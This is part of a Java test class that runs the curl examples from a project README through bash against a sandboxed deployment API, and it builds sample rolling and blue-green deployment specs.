  static List<String> readmeCurlCommands() throws IOException {
    String readme = Files.readString(home().resolve("README.md"));
    int from = readme.indexOf("<!-- api-curl:start -->");
    int to = readme.indexOf("<!-- api-curl:end -->");
    assertTrue(from >= 0 && to > from, "README.md has the api-curl markers");
    return readme.substring(from, to).lines().map(String::strip).filter(l -> l.startsWith("curl ")).toList();
  }

  /** A curl command's outcome: the HTTP status from {@code -i}, the body, bash's exit code. */
  record Shell(int exit, int status, String body, String output) {
    @Override
    public String toString() {
      return "exit " + exit + ":\n" + output;
    }
  }

  /** Runs {@code command} with bash in the checkout, after sourcing the sandbox's api.env. */
  private Shell bash(String command) throws Exception {
    ProcessBuilder pb =
        new ProcessBuilder("bash", "-c", "source \"$0\" && " + command, sandbox.apiEnvFile().toString())
            .directory(home().toFile())
            .redirectErrorStream(true);
    pb.environment().keySet().removeIf(k -> k.startsWith("BELLWETHER_"));
    Process p = pb.start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertTrue(p.waitFor(60, TimeUnit.SECONDS), "curl finished");
    api.record(out);
    int status = -1;
    String body = out;
    String[] parts = out.split("\r?\n\r?\n", 2);
    if (parts[0].startsWith("HTTP/")) {
      String[] statusLine = parts[0].lines().findFirst().orElse("").split(" ");
      status = Integer.parseInt(statusLine[1]);
      body = parts.length > 1 ? parts[1] : "";
    }
    return new Shell(p.exitValue(), status, body, out);
  }

  private static String rollingSpec(String version, String bakeTime) {
    return "kind: RollingDeployment\n"
        + "service: web\n"
        + "version: " + version + "\n"
        + "requestedBy: dave\n"
        + "target:\n"
        + "  router: edge\n"
        + "  backend: web\n"
        + "  deployer: demo\n"
        + "  healthCheck: http\n"
        + "strategy:\n"
        + "  maxUnavailable: 1\n"
        + "  bakeTime: " + bakeTime + "\n"
        + "  failureLimit: 0\n"
        + "drainTimeout: 10s\n"
        + "healthCheck:\n"
        + "  path: /health\n"
        + "  successThreshold: 2\n"
        + "  period: 300ms\n"
        + "  timeout: 30s\n"
        + "smokeCheck:\n"
        + "  path: /version\n"
        + "  expectStatus: 200\n"
        + "  expectBodyContains: \"${version}\"\n";
  }

  private static String blueGreenSpec(String version) {
    return "{\"kind\":\"BlueGreenDeployment\",\"service\":\"shop\",\"version\":\"" + version + "\","
        + "\"requestedBy\":\"dave\","
        + "\"target\":{\"router\":\"edge\",\"pool\":\"shop\",\"deployer\":\"demo\",\"healthCheck\":\"http\"},"
        + "\"replicas\":2,"
        + "\"healthCheck\":{\"path\":\"/health\",\"successThreshold\":2,\"period\":\"300ms\",\"timeout\":\"30s\"},"
        + "\"smokeCheck\":{\"path\":\"/version\",\"expectBodyContains\":\"${version}\"},"
        + "\"approval\":{\"approverGroups\":[\"release-managers\"],\"requiredApprovals\":1,\"timeout\":\"10m\",\"onTimeout\":\"abort\"},"
        + "\"trafficShift\":{\"steps\":[50,100],\"interval\":\"1s\"},"
        + "\"watchWindow\":\"2s\","
        + "\"blueRetention\":{\"mode\":\"keepIdle\"}}";
  }
}
